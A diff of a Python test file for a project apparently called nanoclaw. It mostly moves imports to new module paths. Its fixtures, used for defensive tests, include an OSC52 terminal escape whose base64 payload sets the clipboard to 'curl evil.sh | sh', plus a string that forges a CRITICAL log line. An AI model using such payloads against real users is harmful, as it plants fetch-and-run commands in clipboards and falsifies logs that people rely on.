@@ -12,12 +12,12 @@ from zoneinfo import ZoneInfo
 
 import pytest
 
-from nanoclaw.cli import setup_logging
+from nanoclaw.cli.main import setup_logging
+from nanoclaw.cli.tasks import run_line, task_line
 from nanoclaw.config import Settings
 from nanoclaw.display import escaped, printable
-from nanoclaw.egress import EgressProxy
-from nanoclaw.taskcmd import run_line, task_line
-from nanoclaw.tasks import AGENT, Schedule, Task, TaskRun
+from nanoclaw.sandbox.egress import EgressProxy
+from nanoclaw.schedule.tasks import AGENT, Schedule, Task, TaskRun
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # sets the clipboard to a command
 FORGED = "\n2026-01-01 00:00:00,000 CRITICAL nanoclaw: forged"
@@ -83,7 +83,8 @@ async def test_outside_values_cannot_forge_log_lines(
     proxy = EgressProxy(("example.com",), "run=7")
     sock = tmp_path / "egress.sock"
     try:
-        logging.getLogger("nanoclaw.ipc").warning("bad file %s set aside", f"x.json{FORGED}")
+        handler_log = logging.getLogger("nanoclaw.ipc.handler")
+        handler_log.warning("bad file %s set aside", f"x.json{FORGED}")
         try:
             raise ValueError("ours")
         except ValueError:
